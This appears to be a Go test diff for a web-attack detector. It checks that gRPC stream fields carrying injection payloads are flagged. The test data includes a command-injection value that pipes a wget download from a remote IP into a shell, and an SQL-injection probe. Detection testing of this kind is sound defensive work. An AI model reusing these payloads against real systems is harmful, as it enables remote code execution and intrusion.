@@ -441,3 +441,25 @@ func TestOutcome(t *testing.T) {
 		t.Errorf("without an error page: %v", out)
 	}
 }
+
+// TestSelective checks that in suspicious mode a long gRPC stream is judged
+// on its suspicious fields and on those a prior alert names.
+func TestSelective(t *testing.T) {
+	d := detector(t, detect.CRS{Mode: detect.CRSSuspicious})
+	var fields []string
+	for i := range 300 {
+		fields = append(fields, "["+strconv.Itoa(i)+"].1", "coffee mug "+strconv.Itoa(i))
+	}
+	x := grpcExchange("application/grpc", append(fields, "[300].2", "x; /bin/bash -c 'wget http://203.0.113.9/x -O- | sh'")...)
+	out := d.Inspect(x, nil)
+	if len(out) != 1 || out[0].Category != "os-command-injection" || out[0].Evidence[0].Name != "[300].2" {
+		t.Fatalf("stream with one payload: %v", out)
+	}
+	// "1 and 1=1" passes the prefilter; an earlier alert naming the field
+	// gets it to CRS.
+	x = grpcExchange("application/grpc", append(fields, "[300].2", "1 and 1=1")...)
+	prior := []*alert.Alert{{Detector: "injection", Evidence: []*alert.Evidence{{Location: "protobuf", Name: "[300].2"}}}}
+	if out := d.InspectAfter(x, prior, nil); len(out) != 1 || out[0].Category != "sql-injection" {
+		t.Errorf("field named by a prior alert: %v", out)
+	}
+}
